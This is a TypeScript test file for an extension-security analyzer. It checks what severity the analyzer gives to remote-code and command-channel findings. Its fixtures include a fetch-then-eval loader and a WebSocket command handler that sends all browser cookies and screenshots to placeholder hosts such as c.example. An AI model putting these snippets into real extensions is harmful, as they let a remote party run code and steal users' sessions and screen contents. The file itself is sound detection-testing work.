import { expect, test } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';
import { sample } from '../../testing/sample.ts';

/** Code that a program on this computer sends is no stranger's, though nobody reviewed it. */

const told = async (wanted: string, background: string): Promise<string | undefined> => {
  const { findings } = await analyze(memoryTree(sample({ background }).files), { kind: 'extension' });
  return findings.find(({ rule }) => rule === wanted)?.severity;
};

const severityOf = (address: string): Promise<string | undefined> =>
  told('remote-code', `fetch('${address}').then((answer) => answer.text()).then(eval);`);

test.each([
  ['http://localhost:8097/', 'high'],
  ['http://127.0.0.1/a.js', 'high'],
  ['https://localhost.example/', 'critical'],
  ['https://code.example/a.js', 'critical'],
])('%s', async (address, severity) => {
  expect(await severityOf(address)).toBe(severity);
});

const obeys = (...at: string[]): string =>
  at.map((one, n) => `const s${n} = new WebSocket('${one}'); s${n}.onmessage = hear;`).join(' ') +
  ' function hear(e) { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": chrome.cookies.getAll({}, (all) => s0.send(JSON.stringify(all))); break; case "shot": chrome.tabs.captureVisibleTab((u) => s0.send(u)); break; } }';

test.each([
  [['ws://localhost:8080/'], 'high'],
  [['wss://c.example/'], 'critical'],
  [['wss://localhost.c.example/'], 'critical'],
  [['ws://localhost:8080/', 'wss://c.example/'], 'critical'],
])('takes commands from %s', async (at, severity) => {
  expect(await told('command-channel', obeys(...at))).toBe(severity);
});
